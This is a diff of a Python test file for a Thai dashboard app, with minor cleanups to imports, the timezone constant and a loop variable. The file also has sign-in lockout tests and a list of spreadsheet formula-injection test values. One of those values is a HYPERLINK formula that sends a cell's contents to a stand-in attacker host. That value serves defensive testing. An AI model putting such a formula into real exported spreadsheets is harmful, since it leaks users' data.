@@ -15,10 +15,10 @@ import zipfile
 
 import pandas as pd
 import pytest
+from conftest import ROOT
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import func, select
 
-from conftest import ROOT
 from ita_dash.domain.accounts import SignInRefused, User
 from ita_dash.domain.entries import FollowUpEntry, InvalidEntry, MeasureEntry, OitEntry
 from ita_dash.domain.fields import Limit, bad_characters, text_problem
@@ -39,7 +39,7 @@ USERS = {user.username: user for user, _ in DEMO_ACCOUNTS}
 HEAD = USERS["demo.head"].as_actor()  # section head of DEMO-01, งานอำนวยการ
 CHIEF = USERS["demo.chief"].as_actor()
 SYSTEM = Actor.system("test")
-NOW = dt.datetime(2026, 11, 21, 3, 0, tzinfo=dt.timezone.utc)
+NOW = dt.datetime(2026, 11, 21, 3, 0, tzinfo=dt.UTC)
 FY = 2570
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "+1", "-2", "@SUM(A1)", "\tแท็บนำหน้า", "\rขึ้นบรรทัด",
             "=1+1"]
@@ -91,7 +91,7 @@ def test_a_burst_of_parallel_wrong_passwords_ends_locked(demo_store):
 
 
 def test_four_wrong_then_right_still_signs_in_and_clears_the_count(demo_store):
-    for attempt in range(4):
+    for _ in range(4):
         with pytest.raises(SignInRefused):
             demo_store.sign_in("demo.head", "wrong", NOW)
     assert demo_store.get_user("demo.head").failed_attempts == 4
